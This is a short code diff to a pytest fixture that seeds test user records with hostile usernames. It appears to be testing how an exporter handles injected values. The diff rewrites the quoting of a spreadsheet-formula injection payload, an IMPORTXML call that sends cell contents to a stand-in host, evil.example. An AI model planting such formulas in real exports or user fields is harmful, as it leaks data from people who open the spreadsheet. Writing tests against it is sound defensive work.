@@ -50,7 +50,7 @@ def hostile_inputs(tmp_path_factory: pytest.TempPathFactory) -> tuple[list[Path]
                     renamed[user["id"]] = HOSTILE[len(renamed)]
                 if user["id"] in renamed:
                     user["username"] = renamed[user["id"]]
-                    user["description"] = "=IMPORTXML(CONCAT(\"http://evil.example/\", A1), \"//a\")"
+                    user["description"] = '=IMPORTXML(CONCAT("http://evil.example/", A1), "//a")'
             lines.append(json.dumps(page))
         path.write_text("\n".join(lines) + "\n")
     assert len(renamed) == len(HOSTILE)
